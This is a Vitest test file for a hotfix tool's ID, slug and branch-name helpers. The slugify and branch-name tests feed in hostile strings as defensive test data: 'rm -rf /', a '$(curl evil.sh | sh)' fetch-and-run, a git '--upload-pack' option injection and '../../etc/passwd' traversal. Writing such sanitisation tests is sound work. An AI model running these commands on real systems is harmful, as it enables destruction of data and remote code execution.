import { describe, expect, it } from 'vitest';
import {
  backmergeBranch,
  formatHotfixId,
  hotfixBranch,
  isHotfixId,
  qaEnvName,
  sequenceKey,
  slugify,
} from '../../../src/domain/ids.js';

describe('hotfix IDs', () => {
  it('are HF-YYYY-MM-NNN with a zero-padded counter', () => {
    const at = new Date('2026-11-05T10:00:00Z');
    expect(formatHotfixId(at, 1)).toBe('HF-2026-11-001');
    expect(formatHotfixId(at, 42)).toBe('HF-2026-11-042');
    expect(formatHotfixId(new Date('2026-03-01T00:00:00Z'), 7)).toBe('HF-2026-03-007');
  });

  it('grow past three digits instead of wrapping', () => {
    const id = formatHotfixId(new Date('2026-11-05T10:00:00Z'), 1234);
    expect(id).toBe('HF-2026-11-1234');
    expect(isHotfixId(id)).toBe(true);
  });

  it('use UTC for the month, so the ID and its counter agree at a month boundary', () => {
    const at = new Date('2026-11-30T23:30:00-05:00'); // 2026-12-01T04:30Z
    expect(formatHotfixId(at, 1)).toBe('HF-2026-12-001');
    expect(sequenceKey(at)).toBe('2026-12');
  });

  it('draw from one counter per calendar month', () => {
    expect(sequenceKey(new Date('2026-11-01T00:00:00Z'))).toBe(sequenceKey(new Date('2026-11-30T23:59:59Z')));
    expect(sequenceKey(new Date('2026-11-30T23:59:59Z'))).not.toBe(sequenceKey(new Date('2026-12-01T00:00:00Z')));
    expect(sequenceKey(new Date('2027-01-15T00:00:00Z'))).toBe('2027-01');
  });

  it('are recognised, and look-alikes are not', () => {
    expect(isHotfixId('HF-2026-11-001')).toBe(true);
    for (const bad of ['hf-2026-11-001', 'HF-2026-1-001', 'HF-2026-11-01', 'HF-26-11-001', 'HF-2026-11-001x', ' HF-2026-11-001', '../HF-2026-11-001']) {
      expect(isHotfixId(bad), bad).toBe(false);
    }
  });
});

describe('slugify', () => {
  it('turns a title into lower-case words joined by single dashes', () => {
    expect(slugify('Fix rounding in EUR totals')).toBe('fix-rounding-in-eur-totals');
    expect(slugify('  many   spaces\tand\ttabs  ')).toBe('many-spaces-and-tabs');
  });

  it('leaves nothing of shell metacharacters', () => {
    expect(slugify('"; rm -rf / #')).toBe('rm-rf');
    expect(slugify('$(curl evil.sh | sh) `id` & || ; > /tmp/x')).toBe('curl-evil-sh-sh-id-tmp-x');
  });

  it('never starts with a dash, so it cannot pass as a git option', () => {
    expect(slugify('--upload-pack=x')).toBe('upload-pack-x');
    expect(slugify('-x')).toBe('x');
    for (const title of ['--upload-pack=touch /tmp/pwned', '---', '- - -a', '—em dash first']) {
      expect(slugify(title).startsWith('-'), title).toBe(false);
    }
  });

  it('has no path traversal, dots, slashes or ref-breaking characters', () => {
    expect(slugify('../../etc/passwd')).toBe('etc-passwd');
    expect(slugify('../../etc')).toBe('etc');
    for (const title of ['a..b', 'x.lock', 'a@{b}', 'a~b^c:d?e*f[g\\h', 'end.', 'refs/heads/master']) {
      expect(slugify(title), title).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
    }
  });

  it('folds accents and drops emoji and other scripts', () => {
    expect(slugify('Währung café naïve Ångström')).toBe('wahrung-cafe-naive-angstrom');
    expect(slugify('Fix 🚀 launch 🔥')).toBe('fix-launch');
    expect(slugify('ﬁx ﬂow')).toBe('fix-flow'); // compatibility ligatures
    expect(slugify('日本語のタイトル')).toBe('fix');
  });

  it("falls back to 'fix' when nothing usable is left", () => {
    for (const title of ['', '   ', '!!!', '🚀🔥', '--', '../..']) expect(slugify(title), title).toBe('fix');
  });

  it('is capped at 40 characters and does not end with a dash', () => {
    const slug = slugify('a'.repeat(39) + ' tail words that go on and on');
    expect(slug).toBe('a'.repeat(39));
    expect(slugify('word '.repeat(50)).length).toBeLessThanOrEqual(40);
    expect(slugify('word '.repeat(50))).not.toMatch(/-$/);
    expect(slugify('x'.repeat(500))).toBe('x'.repeat(40));
  });
});

describe('names derived from the ID', () => {
  it('hotfix branch is hotfix/<ID>-<slug>', () => {
    expect(hotfixBranch('HF-2026-11-001', 'Fix rounding')).toBe('hotfix/HF-2026-11-001-fix-rounding');
    expect(hotfixBranch('HF-2026-11-001', '--upload-pack=x')).toBe('hotfix/HF-2026-11-001-upload-pack-x');
    expect(hotfixBranch('HF-2026-11-001', '"; rm -rf / #')).toBe('hotfix/HF-2026-11-001-rm-rf');
    expect(hotfixBranch('HF-2026-11-001', '')).toBe('hotfix/HF-2026-11-001-fix');
  });

  it('back-merge branch is backmerge/<ID>', () => {
    expect(backmergeBranch('HF-2026-11-001')).toBe('backmerge/HF-2026-11-001');
  });

  it('QA env is qa-<id in lower case>, a valid DNS label', () => {
    const env = qaEnvName('HF-2026-11-001');
    expect(env).toBe('qa-hf-2026-11-001');
    expect(env).toMatch(/^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$/);
  });
});
